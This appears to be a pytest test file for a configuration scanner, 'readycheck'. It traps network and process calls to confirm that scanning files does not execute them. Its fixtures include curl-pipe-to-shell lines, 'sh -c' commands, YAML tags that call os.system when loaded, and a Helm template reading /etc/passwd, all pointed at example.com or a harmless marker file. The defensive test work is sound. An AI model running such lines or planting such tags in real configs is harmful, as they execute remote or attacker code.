"""Nothing executed, nothing fetched, nothing written, nothing constructed from a YAML tag.

A scan of a tree full of things that invite execution (curl | sh, heredocs, sh -c, Python tags,
remote URLs) runs with the network and every way of starting a process replaced by a trap that
records the attempt; the tree's entries and mtimes are compared before and after by the harness.
"""

from __future__ import annotations

import os
import socket
import subprocess
from pathlib import Path

import pytest

from tests.fuzz.harness import HostileCase, check_case, run_cli, tree_snapshot, write_known_bad

_PROCESS_FUNCTIONS = [
    "system", "popen", "fork", "forkpty", "posix_spawn", "posix_spawnp",
    "execl", "execle", "execlp", "execlpe", "execv", "execve", "execvp", "execvpe",
    "spawnl", "spawnle", "spawnlp", "spawnlpe", "spawnv", "spawnve", "spawnvp", "spawnvpe",
]


def forbid_side_effects(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Trap network connections and process creation; returns the list the traps record into."""
    attempts: list[str] = []

    def trap(name: str) -> object:
        def refuse(*args: object, **kwargs: object) -> None:
            attempts.append(name)
            raise OSError(f"readycheck test: {name} is forbidden during a scan")

        return refuse

    for name in ("connect", "connect_ex", "sendto", "bind"):
        monkeypatch.setattr(socket.socket, name, trap(f"socket.{name}"))
    monkeypatch.setattr(socket, "create_connection", trap("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", trap("socket.getaddrinfo"))
    monkeypatch.setattr(subprocess, "Popen", trap("subprocess.Popen"))
    for name in _PROCESS_FUNCTIONS:
        if hasattr(os, name):
            monkeypatch.setattr(os, name, trap(f"os.{name}"))
    return attempts


INVITING_DOCKERFILE = """\
# syntax=docker/dockerfile:1
FROM alpine:3.20
ADD https://example.com/tool.tar.gz /tmp/
RUN curl -fsSL https://example.com/install.sh | sh
RUN sh -c "touch /tmp/readycheck-pwned && echo $(id -u)"
RUN <<EOF
python3 -c 'import os; os.system("touch /tmp/readycheck-pwned")'
EOF
USER 1000
CMD ["sh", "-c", "exec app"]
"""
INVITING_YAML = """\
apiVersion: v1
kind: ConfigMap
metadata:
  name: inviting
  annotations:
    run: !!python/object/apply:os.system ["touch /tmp/readycheck-pwned"]
    fetch: !!python/object/apply:urllib.request.urlopen ["https://example.com"]
data:
  url: https://example.com/config.json
"""


def inviting_tree(root: Path) -> None:
    for rel, text in {
        "Dockerfile": INVITING_DOCKERFILE,
        "Dockerfile.dev": INVITING_DOCKERFILE,
        "deploy/app.yaml": INVITING_YAML,
        "compose.yaml": "services:\n  web:\n    image: !!python/object/apply:os.system [id]\n    build: https://example.com/repo.git\n",
        ".github/workflows/ci.yml": "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://example.com | sh\n",
        ".env": "URL=https://example.com\nCMD=$(touch /tmp/readycheck-pwned)\n",
        "env.schema.json": '{"properties": {"URL": {"$ref": "https://example.com/url.schema.json"}}}',
        "chart/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n",
        "chart/values.yaml": "image: !!python/object/apply:os.system [id]\n",
        "chart/templates/cm.yaml": 'apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{ .Files.Get "/etc/passwd" | quote }}\n',
    }.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def test_the_traps_work(monkeypatch: pytest.MonkeyPatch) -> None:
    """The guard itself catches what it claims to (else the tests below could not fail)."""
    attempts = forbid_side_effects(monkeypatch)
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", 9))
    with pytest.raises(OSError):
        socket.socket().connect(("127.0.0.1", 9))
    with pytest.raises(OSError):
        subprocess.run(["true"])
    with pytest.raises(OSError):
        os.system("true")
    assert attempts == ["socket.create_connection", "socket.connect", "subprocess.Popen", "os.system"]


def test_a_scan_executes_fetches_and_writes_nothing(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    marker = Path("/tmp/readycheck-pwned")
    marker.unlink(missing_ok=True)
    attempts = forbid_side_effects(monkeypatch)
    case = HostileCase("a tree inviting execution", "m", inviting_tree, "either", loader=None)
    outcome = check_case(case, tmp_path / "scan", tmp_path_factory.getbasetemp() / "baseline")
    assert attempts == [] and not marker.exists()
    assert ("m/Dockerfile", "DF201", 2) in outcome.findings_under("m/")  # it was read and judged, not skipped


def test_the_scanned_tree_is_left_exactly_as_it_was(tmp_path: Path) -> None:
    write_known_bad(tmp_path)
    inviting_tree(tmp_path / "m")
    (tmp_path / "m" / ".dockerignore").write_text("node_modules\n")
    before = tree_snapshot(tmp_path)
    run_cli(tmp_path, ["."])
    run_cli(tmp_path, ["m/Dockerfile", "m/deploy/app.yaml", "m/chart/Chart.yaml"])
    assert tree_snapshot(tmp_path) == before
